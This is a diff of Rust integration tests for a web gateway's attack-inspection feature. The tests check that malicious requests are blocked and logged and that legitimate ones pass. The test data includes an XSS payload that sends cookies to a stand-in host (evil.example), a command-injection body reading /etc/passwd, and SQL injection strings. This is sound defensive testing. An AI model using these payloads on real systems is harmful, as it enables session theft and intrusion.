@@ -5,23 +5,26 @@ use serde_json::Value;
 use crate::support::*;
 
 async fn gateway(inspect: &str) -> (Upstream, TestGateway) {
-    let a = Upstream::start("a").await;
     let extra = if inspect.is_empty() {
         String::new()
     } else {
         format!("inspect = {inspect}")
     };
-    let config = [
-        upstream_block("a", &[a.addr], ""),
-        route_block("r", "/", "a", &extra),
-    ]
-    .concat();
-    let gw = TestGateway::start("", &config).await;
-    (a, gw)
+    echo_gateway("", &[("r", "/", &extra)]).await
 }
 
-fn requests(a: &Upstream) -> usize {
-    a.requests.load(std::sync::atomic::Ordering::SeqCst)
+/// POSTs a JSON body; the response, whatever its status.
+async fn post_json(
+    c: &reqwest::Client,
+    url: String,
+    body: impl Into<reqwest::Body>,
+) -> reqwest::Response {
+    c.post(url)
+        .header("content-type", "application/json")
+        .body(body)
+        .send()
+        .await
+        .unwrap()
 }
 
 #[tokio::test]
@@ -36,21 +39,14 @@ async fn attacks_are_blocked_by_default_and_logged() {
         .send()
         .await
         .unwrap();
-    assert_eq!(response.status(), 403);
-    let body = response.text().await.unwrap();
-    assert_eq!(error_code(&body), "request_blocked");
+    let body = assert_refused(response, 403, "request_blocked").await;
     assert!(
         !body.contains("OR 1=1"),
         "no evidence in the response: {body}"
     );
 
-    let response = c
-        .post(format!("{}/comments", gw.http))
-        .header("content-type", "application/json")
-        .body(r#"{"author":"Eve","text":"nice <script>fetch('//evil.example/'+document.cookie)</script>"}"#)
-        .send()
-        .await
-        .unwrap();
+    let xss = r#"{"author":"Eve","text":"nice <script>fetch('//evil.example/'+document.cookie)</script>"}"#;
+    let response = post_json(&c, format!("{}/comments", gw.http), xss).await;
     assert_eq!(response.status(), 403);
 
     // Chunked bodies are inspected too.
@@ -58,23 +54,21 @@ async fn attacks_are_blocked_by_default_and_logged() {
         Ok("{\"cmd\":\"ping -c1 127.0.0.1; "),
         Ok("cat /etc/passwd\"}"),
     ];
-    let response = c
-        .post(format!("{}/jobs", gw.http))
-        .header("content-type", "application/json")
-        .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
-            chunks,
-        )))
-        .send()
-        .await
-        .unwrap();
+    let response = post_json(
+        &c,
+        format!("{}/jobs", gw.http),
+        reqwest::Body::wrap_stream(futures_util::stream::iter(chunks)),
+    )
+    .await;
     assert_eq!(response.status(), 403);
-    assert_eq!(requests(&a), 0, "nothing reached the upstream");
+    assert_eq!(a.served(), 0, "nothing reached the upstream");
 
     let log = gw.access_log(3).await;
     assert_eq!(log[0]["code"], "request_blocked");
     assert_eq!(log[0]["findings"][0]["class"], "sqli");
     assert_eq!(log[0]["findings"][0]["location"], "query.id");
     assert_eq!(log[1]["findings"][0]["class"], "xss");
+    assert_eq!(log[2]["code"], "request_blocked");
     let metrics = metrics(&c, &gw).await;
     assert!(
         metrics.contains("portcullis_inspection_findings_total{class=\"sqli\",action=\"block\"}"),
@@ -94,20 +88,16 @@ async fn legitimate_requests_pass_with_their_body_intact() {
         "website": "https://www.example.org/shop?ref=mail",
     })
     .to_string();
-    let response = c
-        .post(format!(
-            "{}/orders?sort=created_at&order=desc&page=2",
-            gw.http
-        ))
-        .header("content-type", "application/json")
-        .body(body.clone())
-        .send()
-        .await
-        .unwrap();
+    let response = post_json(
+        &c,
+        format!("{}/orders?sort=created_at&order=desc&page=2", gw.http),
+        body.clone(),
+    )
+    .await;
     assert_eq!(response.status(), 200);
     let echo: Value = response.json().await.unwrap();
     assert_eq!(echo["body_len"], body.len());
-    assert_eq!(requests(&a), 1);
+    assert_eq!(a.served(), 1);
 }
 
 #[tokio::test]
@@ -119,7 +109,7 @@ async fn monitor_mode_logs_and_forwards() {
         .await
         .unwrap();
     assert_eq!(response.status(), 200);
-    assert_eq!(requests(&a), 1);
+    assert_eq!(a.served(), 1);
     let log = gw.access_log(1).await;
     assert_eq!(log[0]["decision"], "monitor");
     assert_eq!(log[0]["monitored"][0], "inspect");
@@ -130,22 +120,16 @@ async fn monitor_mode_logs_and_forwards() {
 async fn exclusions_and_off_let_chosen_findings_through() {
     let (_a, gw) = gateway("{ exclude = [\"body.$.snippet:sqli\"] }").await;
     let c = client();
-    let response = c
-        .post(format!("{}/reviews", gw.http))
-        .header("content-type", "application/json")
-        .body(r#"{"snippet":"SELECT * FROM users WHERE id = '1' OR '1'='1' -- review this","title":"query review"}"#)
-        .send()
-        .await
-        .unwrap();
+    let review = r#"{"snippet":"SELECT * FROM users WHERE id = '1' OR '1'='1' -- review this","title":"query review"}"#;
+    let response = post_json(&c, format!("{}/reviews", gw.http), review).await;
     assert_eq!(response.status(), 200, "excluded location");
     // The same payload elsewhere is still blocked.
-    let response = c
-        .post(format!("{}/reviews", gw.http))
-        .header("content-type", "application/json")
-        .body(r#"{"title":"1' OR '1'='1' --"}"#)
-        .send()
-        .await
-        .unwrap();
+    let response = post_json(
+        &c,
+        format!("{}/reviews", gw.http),
+        r#"{"title":"1' OR '1'='1' --"}"#,
+    )
+    .await;
     assert_eq!(response.status(), 403);
 
     let (_b, off) = gateway("{ mode = \"off\" }").await;
@@ -162,27 +146,11 @@ async fn bodies_past_the_inspection_bound_follow_the_policy() {
     let (_a, reject) = gateway("{ max_body_bytes = 1024, on_large_body = \"reject\" }").await;
     let c = client();
     let big = format!("{{\"text\":\"{}\"}}", "a".repeat(2000));
-    let response = c
-        .post(format!("{}/x", reject.http))
-        .header("content-type", "application/json")
-        .body(big.clone())
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(response.status(), 413);
-    assert_eq!(
-        error_code(&response.text().await.unwrap()),
-        "body_too_large"
-    );
+    let response = post_json(&c, format!("{}/x", reject.http), big.clone()).await;
+    assert_refused(response, 413, "body_too_large").await;
 
     let (_b, prefix) = gateway("{ max_body_bytes = 1024 }").await;
-    let response = c
-        .post(format!("{}/x", prefix.http))
-        .header("content-type", "application/json")
-        .body(big.clone())
-        .send()
-        .await
-        .unwrap();
+    let response = post_json(&c, format!("{}/x", prefix.http), big.clone()).await;
     assert_eq!(response.status(), 200);
     let echo: Value = response.json().await.unwrap();
     assert_eq!(
@@ -195,13 +163,7 @@ async fn bodies_past_the_inspection_bound_follow_the_policy() {
         "{{\"text\":\"<script>alert(document.domain)</script>{}\"}}",
         "a".repeat(2000)
     );
-    let response = c
-        .post(format!("{}/x", prefix.http))
-        .header("content-type", "application/json")
-        .body(attack)
-        .send()
-        .await
-        .unwrap();
+    let response = post_json(&c, format!("{}/x", prefix.http), attack).await;
     assert_eq!(response.status(), 403);
 }
 
